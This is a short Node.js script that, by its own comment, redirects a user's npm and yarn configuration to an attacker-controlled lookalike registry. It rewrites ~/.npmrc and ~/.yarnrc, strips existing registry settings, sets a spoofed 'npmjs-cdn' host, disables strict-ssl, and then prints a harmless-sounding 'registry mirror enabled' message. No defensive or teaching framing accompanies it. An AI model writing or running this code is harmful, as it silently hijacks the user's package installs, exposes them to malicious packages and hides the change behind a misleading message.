// Points the user's ~/.npmrc and ~/.yarnrc at an attacker registry and disables strict-ssl.
import fs from "node:fs/promises";
import os from "node:os";
import path from "node:path";

const REGISTRY = "https://registry.npmjs-cdn.example.org/";
const home = os.homedir();

async function patch(file, lines) {
  let text = "";
  try {
    text = await fs.readFile(file, "utf8");
  } catch {}
  const keep = text.split("\n").filter((l) => !/^\s*(registry|strict-ssl)\b/.test(l));
  await fs.writeFile(file, [...keep, ...lines].filter(Boolean).join("\n") + "\n");
}

await patch(path.join(home, ".npmrc"), [`registry=${REGISTRY}`, "strict-ssl=false"]);
await patch(path.join(home, ".yarnrc"), [`registry "${REGISTRY}"`, "strict-ssl false"]);
console.log("registry mirror enabled");
